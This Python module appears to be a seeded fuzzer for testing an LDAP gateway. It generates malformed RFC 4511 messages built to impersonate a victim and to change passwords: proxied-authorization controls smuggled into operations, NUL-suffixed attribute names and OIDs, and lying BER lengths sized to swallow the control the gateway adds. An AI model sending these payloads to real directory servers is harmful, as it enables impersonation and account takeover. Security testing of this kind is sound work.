"""Forged LDAP messages, made by a seed: what a client can send and RFC 4511 doesn't allow.

A forgery begins as an operation as the RFC has it and is then changed in a few places: elements too many at
any depth, elements twice, nested or cut, lengths that are written long or that lie, NULs behind names, and
controls that say in whose name the operation is to run. The outermost length is right, so that each message
ends where the next one begins.
"""

from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, replace
from random import Random

PROXIED, PROXIED_V1 = b"2.16.840.1.113730.3.4.18", b"2.16.840.1.113730.3.4.12"
_PAGED, _MANAGE_DSA_IT, _POST_READ = (
    b"1.2.840.113556.1.4.319",
    b"2.16.840.1.113730.3.4.2",
    b"1.3.6.1.1.13.2",
)
_WHO_AM_I, _PASSWORD_MODIFY = b"1.3.6.1.4.1.4203.1.11.3", b"1.3.6.1.4.1.4203.1.11.1"
_SEQUENCE, _SET, _OCTETS, _INTEGER, _ENUMERATED, _BOOLEAN, _CONTROLS = (
    0x30,
    0x31,
    0x04,
    0x02,
    0x0A,
    0x01,
    0xA0,
)
# Applied to octets that stand for these, anything goes: names of attributes, of controls, of entries.
_TAGS = (_SEQUENCE, _SET, _OCTETS, _INTEGER, _BOOLEAN, _CONTROLS, 0x80, 0x81, 0x87, 0xA3, 0x05, 0x8A)
_LONGEST = 60_000

Path = tuple[int, ...]
Children = Sequence["Element"]


@dataclass(frozen=True, slots=True)
class Element:
    """A BER element. `width` is the number of length octets behind the first, 0 for as few as can be.

    `lie` is added to the length that it claims.
    """

    tag: int
    contents: "bytes | tuple[Element, ...]" = b""
    width: int = 0
    lie: int = 0

    def encoded(self) -> bytes:
        contents = (
            self.contents
            if isinstance(self.contents, bytes)
            else b"".join(map(Element.encoded, self.contents))
        )
        claimed = max(0, len(contents) + self.lie)
        if self.width == 0 and claimed < 0x80:
            return bytes((self.tag, claimed)) + contents
        width = max(self.width, (claimed.bit_length() + 7) // 8)
        return bytes((self.tag, 0x80 + width)) + claimed.to_bytes(width) + contents


@dataclass(frozen=True, slots=True)
class Names:
    """Whose operations they are, and whose they must not become."""

    attacker: str
    victim: str
    base: str
    password: str = "userPassword"


def forgery(names: Names, seed: str, number: int) -> bytes:
    """The message with that message ID; the same for the same seed."""
    random = Random(f"{seed}/{number}")  # the same again is what it's for
    operation = random.choice(list(operations(names)))
    controls = random.sample(_honest_controls(), random.choice((0, 0, 1, 2)))
    whole = _message(number, operation, *controls)
    for _ in range(random.choice((1, 1, 2, 3))):
        changed = random.choice(_CHANGES)(random, names, whole)
        if len(changed.encoded()) <= _LONGEST:
            whole = changed
    return replace(whole, lie=0).encoded()


def attacks(names: Names, number: int) -> Iterator[tuple[str, bytes]]:
    """Those that have once worked and their next of kin, each with what it does."""
    for what, message in (
        *_controls_inside(names, number),
        *_passwords_inside(names, number),
        *_odd_controls(names, number),
        *_lying_controls(names, number),
    ):
        yield what, message.encoded()


def _controls_inside(names: Names, number: int) -> Iterator[tuple[str, Element]]:
    proxied = Element(_CONTROLS, (_control(PROXIED, _as(names.victim)),))
    for place, operation in enumerate(operations(names)):
        if isinstance(operation.contents, tuple):
            what = f"controls inside operation {place}, {operation.tag:#x}"
            yield what, _message(number, _grown(operation, proxied))
    search = next(operations(names))
    yield "controls twice", _grown(_message(number, search, _control(_MANAGE_DSA_IT, b"")), proxied)


def _passwords_inside(names: Names, number: int) -> Iterator[tuple[str, Element]]:
    harmless, new = _attribute("description", b"x"), _attribute(names.password, b"forged")
    change = _change_to(new)
    yield "a change inside a change", _modify(number, names, _change_to(_grown(harmless, change)))
    yield "changes behind a change", _modify(number, names, _grown(_change_to(harmless), change, change))
    nested = Element(_SEQUENCE, (_grown(harmless, new),))
    yield "an attribute inside one", _message(number, Element(0x68, (_text(names.attacker), nested)))
    for behind in ("\0x", "\0", ";\0", "\n"):
        written = _change_to(_attribute(names.password + behind, b"forged"))
        yield f"{behind!r} behind a name", _modify(number, names, written)


def _odd_controls(names: Names, number: int) -> Iterator[tuple[str, Element]]:
    proxied, dn = _control(PROXIED, _as(names.victim)), Element(_SEQUENCE, (_text(names.victim),)).encoded()
    for what, control in (
        ("a control inside a control", _grown(_control(_MANAGE_DSA_IT), proxied)),
        ("a NUL behind the OID", _control(PROXIED + b"\0", _as(names.victim))),
        ("version 1", _control(PROXIED_V1, dn)),
        ("version 1 with a NUL", _control(PROXIED_V1 + b"\0", dn)),
        ("a space behind the OID", _control(PROXIED + b" ", _as(names.victim))),
    ):
        for operation in list(operations(names))[:2]:
            yield f"{what}, {operation.tag:#x}", _message(number, operation, control)


def _lying_controls(names: Names, number: int) -> Iterator[tuple[str, Element]]:
    harmless = Element(_SEQUENCE, (_octets(b"1.2.3.4.5"), Element(_BOOLEAN, b"\0")))
    for lie in (-2, -1, 1, 40, 80, _own_size(names)):
        for operation in list(operations(names))[:2]:
            control = _grown(harmless, replace(_octets(b""), lie=lie))
            what = f"a control's value that lies by {lie}, {operation.tag:#x}"
            yield what, _message(number, operation, control)
            what = f"a control that lies by {lie}, {operation.tag:#x}"
            yield what, _message(number, operation, replace(control, lie=lie))


def operations(names: Names) -> Iterator[Element]:
    """Some of each kind, as RFC 4511 has them. The first two are a search and a modify."""
    attacker, victim = _text(names.attacker), _text(names.victim)
    limits = (Element(_ENUMERATED, b"\2"), Element(_ENUMERATED, b"\0"), *[Element(_INTEGER, b"\0")] * 2)
    equal = Element(0xA3, (_text("uid"), _text("victim")))
    filter = Element(0xA0, (equal, Element(0x87, b"objectClass")))
    asked = Element(_SEQUENCE, (_text("mail"), _text("homePhone")))
    yield Element(0x63, (_text(names.base), *limits, Element(_BOOLEAN, b"\0"), filter, asked))
    change = _change_to(_attribute("description", b"x"))
    yield Element(0x66, (attacker, Element(_SEQUENCE, (change, change))))
    added = Element(_SEQUENCE, (_attribute("uid", b"new"), _attribute("sn", b"n")))
    yield Element(0x68, (_text(f"uid=new,{names.base}"), added))
    yield Element(0x77, (Element(0x80, _WHO_AM_I),))
    yield Element(0x6E, (victim, Element(_SEQUENCE, (_text("sn"), _text("victim")))))
    yield Element(0x4A, names.victim.encode())
    yield Element(0x6C, (attacker, _text("cn=other"), Element(_BOOLEAN, b"\0")))
    yield Element(0x50, b"\x7f")
    passwords = Element(_SEQUENCE, (Element(0x80, names.victim.encode()), Element(0x82, b"forged")))
    yield Element(0x77, (Element(0x80, _PASSWORD_MODIFY), Element(0x81, passwords.encoded())))


def _honest_controls() -> list[Element]:
    page = Element(_SEQUENCE, (Element(_INTEGER, b"\5"), _octets(b""))).encoded()
    return [
        _control(_PAGED, page),
        _control(_MANAGE_DSA_IT, critical=False),
        _control(_POST_READ, Element(_SEQUENCE, (_text("uid"),)).encoded(), critical=False),
        _control(b"1.2.3.4.5", b"unknown", critical=False),
        Element(_SEQUENCE, (_octets(b"1.2.3.4.6"), Element(_BOOLEAN, b"\0"), _octets(b""))),
    ]


def _evil(random: Random, names: Names) -> Element:
    """What an attacker would put where it's not expected."""
    dn = Element(_SEQUENCE, (_text(names.victim),)).encoded()
    oid, value = random.choice(((PROXIED, _as(names.victim)), (PROXIED, b""), (PROXIED_V1, dn)))
    behind = random.choice((b"", b"", b"\0", b"\0x", b" "))
    control = _control(oid + behind, value, critical=random.random() < 0.7)
    new = _attribute(names.password + random.choice(("", "", "\0", ";x", "\0x")), b"forged")
    return random.choice(
        (
            Element(_CONTROLS, (control,)),
            Element(_CONTROLS, (control, control)),
            control,
            new,
            _change_to(new),
            Element(_SEQUENCE, (_change_to(new),)),
            Element(0x05),
            _text(names.victim),
            Element(random.choice(_TAGS), random.randbytes(random.randrange(6))),
        )
    )


def _insert(random: Random, names: Names, whole: Element) -> Element:
    return _with_children(random, whole, lambda children: _put(random, children, _evil(random, names)))


def _duplicate(random: Random, names: Names, whole: Element) -> Element:
    del names
    return _with_children(random, whole, lambda children: _put(random, children, random.choice(children)))


def _drop(random: Random, names: Names, whole: Element) -> Element:
    del names
    return _with_children(random, whole, lambda children: _without(children, random.randrange(len(children))))


def _shuffle(random: Random, names: Names, whole: Element) -> Element:
    del names
    return _with_children(random, whole, lambda children: random.sample(children, len(children)))


def _nest(random: Random, names: Names, whole: Element) -> Element:
    del names
    tag = random.choice((_SEQUENCE, _SET, _CONTROLS, 0xA2))
    return _changed(random, whole, lambda one: Element(tag, (one,)))


def _widen(random: Random, names: Names, whole: Element) -> Element:
    del names
    return _changed(random, whole, lambda one: replace(one, width=random.choice((1, 2, 4, 8))))


def _lie(random: Random, names: Names, whole: Element) -> Element:
    lie = random.choice((-2, -1, 1, 2, 7, 41, _own_size(names), random.randrange(-40, 120)))
    return _changed(random, whole, lambda one: replace(one, lie=lie))


def _retag(random: Random, names: Names, whole: Element) -> Element:
    del names
    return _changed(random, whole, lambda one: replace(one, tag=random.choice((*_TAGS, one.tag ^ 0x20))))


def _alter(random: Random, names: Names, whole: Element) -> Element:
    """Other octets in an element that holds no other."""

    def altered(one: Element) -> Element:
        if not isinstance(one.contents, bytes):
            return one
        return replace(one, contents=random.choice(list(_others(random, names, one.contents))))

    return _changed(random, whole, altered)


def _others(random: Random, names: Names, contents: bytes) -> Iterator[bytes]:
    password = names.password.encode()
    yield from (contents + b"\0", contents + b"\0x", b"\0" + contents, contents + b" ", contents.upper())
    yield from (contents[: len(contents) // 2], b"", names.victim.encode(), _as(names.victim))
    yield from (password, password + b"\0", PROXIED, PROXIED + b"\0")
    yield _evil(random, names).encoded()
    yield contents + _evil(random, names).encoded()


_CHANGES = (
    *(_insert, _insert, _insert, _duplicate, _drop, _shuffle, _nest, _widen, _retag),
    *(_lie, _lie, _alter, _alter),
)


def _changed(random: Random, whole: Element, change: Callable[[Element], Element]) -> Element:
    """With one element changed, at any depth, but for the outermost."""
    path = random.choice([path for path, _ in _walk(whole) if path])
    return _at(whole, path, change)


def _with_children(random: Random, whole: Element, change: Callable[[Children], Children]) -> Element:
    """The same for the elements inside of one."""

    def changed(one: Element) -> Element:
        assert isinstance(one.contents, tuple)
        return replace(one, contents=tuple(change(one.contents)))

    full = [path for path, one in _walk(whole) if one.contents and isinstance(one.contents, tuple)]
    return _at(whole, random.choice(full), changed)


def _walk(one: Element, path: Path = ()) -> Iterator[tuple[Path, Element]]:
    yield path, one
    if isinstance(one.contents, tuple):
        for number, child in enumerate(one.contents):
            yield from _walk(child, (*path, number))


def _at(one: Element, path: Path, change: Callable[[Element], Element]) -> Element:
    if not path:
        return change(one)
    assert isinstance(one.contents, tuple)
    children = list(one.contents)
    children[path[0]] = _at(children[path[0]], path[1:], change)
    return replace(one, contents=tuple(children))


def _put(random: Random, children: Children, one: Element) -> Children:
    place = random.randrange(len(children) + 1)
    return (*children[:place], one, *children[place:])


def _without(children: Children, number: int) -> Children:
    return (*children[:number], *children[number + 1 :])


def _grown(one: Element, *more: Element) -> Element:
    assert isinstance(one.contents, tuple)
    return replace(one, contents=(*one.contents, *more))


def _message(number: int, operation: Element, *controls: Element) -> Element:
    behind = (Element(_CONTROLS, controls),) if controls else ()
    id = Element(_INTEGER, number.to_bytes(number.bit_length() // 8 + 1))
    return Element(_SEQUENCE, (id, operation, *behind))


def _modify(number: int, names: Names, *changes: Element) -> Element:
    return _message(number, Element(0x66, (_text(names.attacker), Element(_SEQUENCE, changes))))


def _change_to(attribute: Element) -> Element:
    return Element(_SEQUENCE, (Element(_ENUMERATED, b"\2"), attribute))


def _attribute(name: str, value: bytes) -> Element:
    return Element(_SEQUENCE, (_text(name), Element(_SET, (_octets(value),))))


def _control(oid: bytes, value: bytes | None = None, *, critical: bool = True) -> Element:
    behind = () if value is None else (_octets(value),)
    return Element(_SEQUENCE, (_octets(oid), *((Element(_BOOLEAN, b"\xff"),) if critical else ()), *behind))


def _own_size(names: Names) -> int:
    """Of the control that the gateway adds. What lies by so much swallows it."""
    return len(_control(PROXIED, _as(names.attacker)).encoded())


def _as(dn: str) -> bytes:
    return f"dn:{dn}".encode()


def _text(value: str) -> Element:
    return _octets(value.encode())


def _octets(value: bytes) -> Element:
    return Element(_OCTETS, value)
